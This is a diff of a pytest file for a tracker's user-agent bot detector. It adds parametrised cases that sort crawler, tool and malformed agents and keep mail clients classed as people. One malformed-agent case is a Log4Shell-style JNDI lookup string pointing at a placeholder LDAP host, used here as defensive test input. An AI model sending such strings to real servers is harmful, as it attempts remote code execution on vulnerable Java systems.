@@ -7,7 +7,7 @@ import pytest
 import user_agents
 from crawleruseragents import CRAWLER_USER_AGENTS_DATA
 
-from tracker.enrich.bots import BotReason, compile_patterns, reason_for
+from tracker.enrich.bots import LIST_EXCLUSIONS, BotReason, compile_patterns, reason_for
 from tracker.enrich.device import parse_device
 
 # Current real browser and in-app user agents, as the clients send them (2024-2025 versions), each
@@ -218,11 +218,55 @@ def test_patterns_the_rust_engine_rejects_still_match():
 
 
 def test_ua_library():
-    """ua-parser's Spider family catches what the list and the markers do not."""
-    ua = "Mozilla/5.0 (compatible; OdnosTestCrawler/1.0)"
+    """ua-parser's Spider family catches what the list and the markers do not, and wins over the rules."""
+    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 OdnosTestCrawler/1.0 Safari/537.36"
     assert reason_for(ua, "Other") == ""
     assert reason_for(ua, "Spider") == BotReason.UA_LIBRARY
     assert parse_device(ua).bot_reason == BotReason.UA_LIBRARY
+    assert reason_for("Mozilla/5.0 (compatible; OdnosTestFetcher/1.0)", "Spider") == BotReason.UA_LIBRARY
+
+
+# One agent per shape rule, none in any list: what they catch is bots nobody listed yet.
+@pytest.mark.parametrize(("ua", "reason"), [
+    ("Quux-Scanner/1.0 (Linux)", BotReason.SELF_DECLARED),
+    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36 Quux Monitor",
+     BotReason.SELF_DECLARED),
+    ("Quux Fetcher/2.0", BotReason.SELF_DECLARED),
+    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36 (+quux.example.io)",
+     BotReason.CONTACT),
+    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36 ops@quux-labs.net",
+     BotReason.CONTACT),
+    ("Quux/1.2 (https://quux.example/about)", BotReason.CONTACT),
+    ("Mozilla/5.0 (compatible; Quux/1.0) AppleWebKit/537.36 (KHTML, like Gecko)", BotReason.COMPATIBLE_OTHER),
+    ("Mozilla/5.0 (compatible; Quux/1.0)", BotReason.TOOL_AGENT),
+    ("Quux/1.2.3", BotReason.TOOL_AGENT),
+    ("Quux", BotReason.TOOL_AGENT),
+    ("Mozilla/5.0 Quux/0.1", BotReason.TOOL_AGENT),
+    ("Mozilla/5.0", BotReason.TOOL_AGENT),
+    ("${jndi:ldap://x.example/a}", BotReason.MALFORMED),
+    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/W.X.Y.Z Safari/537.36", BotReason.MALFORMED),
+    ("Quux/0.2.0-SNAPSHOT (Linux)", BotReason.MALFORMED),
+])
+def test_shape_rules(ua, reason):
+    assert parse_device(ua).bot_reason == reason
+
+
+@pytest.mark.parametrize("ua", [
+    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; Microsoft Outlook 16.0.17928; "
+    "ms-office; MSOffice 16)",
+    "Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
+    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)",
+    "Outlook-iOS/723.4027091.prod.iphone (4.2401.0)",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.5.0",
+    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
+    "Mozilla/5.0 (compatible; Konqueror/4.5; Linux) KHTML/4.5.5 (like Gecko)",
+    "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/3.0.13",
+    "Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36",
+])
+def test_mail_clients_and_odd_people_are_people(ua):
+    assert parse_device(ua).bot_reason == "", ua
 
 
 def test_bot_device_class_and_browser_are_filled():
@@ -231,10 +275,12 @@ def test_bot_device_class_and_browser_are_filled():
 
 
 def test_combined_detector_covers_the_crawler_list_instances():
-    instances = _instances()
+    """In-sample, so a weak check: the held-out figures are tests/test_machines_eval.py's."""
+    instances = [ua for entry in CRAWLER_USER_AGENTS_DATA if entry["pattern"] not in LIST_EXCLUSIONS
+                 for ua in entry["instances"]]
     flagged = [ua for ua in instances if parse_device(ua).is_bot]
     assert len(instances) > 2000
-    assert len(flagged) / len(instances) >= 0.99, set(instances) - set(flagged)
+    assert len(flagged) == len(instances), set(instances) - set(flagged)
 
 
 def test_user_agents_alone_covers_far_less():
